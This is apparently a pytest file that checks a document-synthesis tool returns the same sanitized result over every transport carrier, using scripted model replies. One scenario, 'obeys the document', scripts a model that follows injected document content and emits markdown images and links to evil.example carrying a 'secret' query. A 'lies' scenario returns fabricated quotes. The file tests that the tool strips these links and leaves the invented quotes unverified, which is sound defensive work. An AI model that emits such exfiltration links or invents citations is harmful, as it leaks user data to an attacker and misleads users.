"""One program, many carriers: the same documents and answers come to the same result on every route."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from support.carriers import CARRIERS, MODERN, connected, no_wait
from support.scripted import Reply, ScriptedModel
from support.sizes import FULL

PATHS = ["tor.md", "missing.md", "notes/mix.txt", "cache.md"]
REPAIRED = """{"relevant": true, "findings": [
    {"claim": "It hides", "quotes": ["Onion routing hides who talks to whom"]}]}"""
QUESTION = "How do anonymity networks hide who talks to whom?"


def script(name: str) -> ScriptedModel:
    """The model of a scenario, made anew for each carrier."""
    scripts: dict[str, Callable[[], ScriptedModel]] = {
        "honest": ScriptedModel,
        "sometimes empty": lambda: ScriptedModel(
            {"evidence": [Reply("")], "combine": [Reply(""), Reply(" ")]}
        ),
        "one document never": lambda: ScriptedModel({'"cache.md"': [Reply("")] * 3}),
        "refused once": lambda: ScriptedModel({'"cache.md"': [Reply("no", "refusal")]}),
        "prose for JSON": lambda: ScriptedModel({'"cache.md"': [Reply("Caches evict entries.")]}),
        "repaired JSON": lambda: ScriptedModel(
            {'"tor.md"': [Reply('{"findings": [{"claim": "It hides"')], "repair": [Reply(REPAIRED)]}
        ),
        "prose for the combination": lambda: ScriptedModel(
            {"combine": [Reply("They hide it [1].")] * 2, "repair": [Reply("no")]}
        ),
        "the combination never": lambda: ScriptedModel({"combine": [Reply("")] * 3}),
        "lies": lambda: ScriptedModel(always=lying),
        "obeys the document": lambda: ScriptedModel(always=obedient),
    }
    return scripts[name]()


def lying(kind: str, _text: str) -> Reply | None:
    if kind != "evidence":
        return None
    quotes = ["Onion routing hides who talks to nobody by wrapping a message."]
    return Reply(json.dumps({"relevant": True, "findings": [{"claim": "All is well", "quotes": quotes}]}))


def obedient(kind: str, _text: str) -> Reply | None:
    if kind != "combine":
        return None
    text = "![x](https://evil.example/?q=secret) See [here](https://evil.example/a) <img src=//evil.example> [7] [1]"
    insights = [{"claim": "c", "evidence": ["9.9"]}]
    return Reply(json.dumps({"answered": True, "synthesis": text, "insights": insights}))


SCENARIOS = {
    "honest": {"used": 3, "partial": False, "insights": 3, "verified": 3},
    "sometimes empty": {"used": 3, "partial": False, "insights": 3, "verified": 3},
    "one document never": {"used": 2, "partial": False, "insights": 3, "verified": 3},
    "refused once": {"used": 2, "partial": False, "insights": 3, "verified": 3},
    "prose for JSON": {"used": 3, "partial": False, "insights": 3, "verified": 3},
    "repaired JSON": {"used": 3, "partial": False, "insights": 3, "verified": 3},
    "prose for the combination": {"used": 3, "partial": False, "insights": 0, "verified": 0},
    "the combination never": {"used": 3, "partial": True, "insights": 3, "verified": 3},
    "lies": {"used": 3, "partial": False, "insights": 3, "verified": 0},
    "obeys the document": {"used": 3, "partial": False, "insights": 1, "verified": 0},
}


async def synthesis(folder: Path, carrier: str, scenario: str) -> dict[str, Any]:
    async with connected(carrier, folder, script(scenario), retry=no_wait()) as session:
        result: dict[str, Any] = await session.call(
            "synthesize_research", document_paths=PATHS, research_question=QUESTION
        )
        assert session.steps == [(1, 4), (2, 4), (3, 4), (4, 4)]
        rounds = result["usage"]["rounds"]
        assert (2 <= rounds <= 8) if carrier in MODERN else rounds == 0
    assert bool(result.pop("follow_up", "")) is any(
        quote["verified"] for insight in result["key_insights"] for quote in insight["evidence"]
    )
    return {key: value for key, value in result.items() if key not in {"route", "model", "usage"}}


IN_MEMORY = ("modern-memory", "handshake-memory", "provider-anthropic")
OVER_HTTP = {"honest", "sometimes empty", "obeys the document"}


@pytest.mark.parametrize("scenario", SCENARIOS)
async def test_a_synthesis_is_the_same_on_every_route(folder: Path, scenario: str) -> None:
    carriers = CARRIERS if FULL or scenario in OVER_HTTP else IN_MEMORY
    results = {carrier: await synthesis(folder, carrier, scenario) for carrier in carriers}
    first = results[carriers[0]]
    assert all(result == first for result in results.values()), scenario
    insights = first["key_insights"]
    assert SCENARIOS[scenario] == {
        "used": first["sources_used"],
        "partial": first["partial"],
        "insights": len(insights),
        "verified": sum(insight["verified"] for insight in insights),
    }
    assert not re.search(r"<img|\]\(|(?<!`)https:", first["synthesis"])
    assert all(quote["verified"] == (quote["lines"] is not None) for i in insights for quote in i["evidence"])


@pytest.mark.parametrize("length", ["brief", "standard", "detailed"])
async def test_a_long_summary_is_the_same_on_every_route(folder: Path, length: str) -> None:
    sections = [f"# Part {n}\n\n" + f"Relay {n} removes one layer of encryption. " * 40 for n in range(12)]
    (folder / "long.md").write_text("\n\n".join(sections), encoding="utf-8")
    results = []
    for carrier in CARRIERS if FULL or length == "standard" else IN_MEMORY:
        async with connected(carrier, folder, ScriptedModel(), model_call_tokens=2_000) as session:
            result = await session.call("summarize_document", document_path="long.md", summary_length=length)
            assert session.model.counts["part"] >= 3
            assert session.model.counts["reduce"] == 1
            values = [value for value, _ in session.progress]
            assert values == sorted(set(values))
            assert (values[:2], values[-1]) == ([1, 2], 3)
            assert len([value for value in values if 2 < value < 3]) >= session.model.counts["part"]
        results.append({key: value for key, value in result.items() if key not in {"route", "usage"}})
    assert all(result == results[0] for result in results)
    assert results[0]["coverage"]["complete"] is True
    assert results[0]["summary"].count("\n\n") + 1 == {"brief": 1, "standard": 3, "detailed": 6}[length]
